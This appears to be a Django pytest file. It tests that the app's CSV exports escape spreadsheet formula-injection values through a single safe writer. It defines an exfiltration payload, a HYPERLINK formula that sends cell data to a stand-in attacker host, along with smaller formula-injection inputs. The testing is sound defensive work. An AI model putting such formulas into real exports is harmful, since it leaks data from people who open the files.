"""F7: every CSV export writes formula-safe cells through the one writer in core."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from cocreate.core.csv_export import safe_cell
from cocreate.opinionmap import services
from tests.factories import OpinionCampaignFactory, OpinionParticipantFactory, OpinionVoteFactory, StatementFactory

pytestmark = pytest.mark.django_db

SRC = Path(__file__).resolve().parents[2] / "src" / "cocreate"
PAYLOAD = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


def test_opinion_map_report_csv_neutralises_formulas(client):
    campaign = OpinionCampaignFactory()
    statements = [StatementFactory(campaign=campaign, text=text) for text in (PAYLOAD, "+1 cmd", "@SUM(A1)", "Fine")]
    for i in range(8):
        participant = OpinionParticipantFactory(campaign=campaign)
        for s in statements:
            OpinionVoteFactory(participant=participant, statement=s, value=1 if i % 2 else -1)
    services.report_compute(campaign=campaign)

    response = client.get(reverse("opinionmap:report_csv", args=[campaign.slug]))

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    texts = {row[1] for row in rows[1:]}
    assert texts == {"'" + PAYLOAD, "'+1 cmd", "'@SUM(A1)", "Fine"}
    assert all(cell.isdigit() for row in rows[1:] for cell in row[2:])  # counts stay numbers


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("-2", "'-2"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), (-2, -2), (None, "")],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_no_csv_is_written_outside_the_safe_writer():
    writers = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()) and path.name != "csv_export.py"
    ]
    assert writers == []
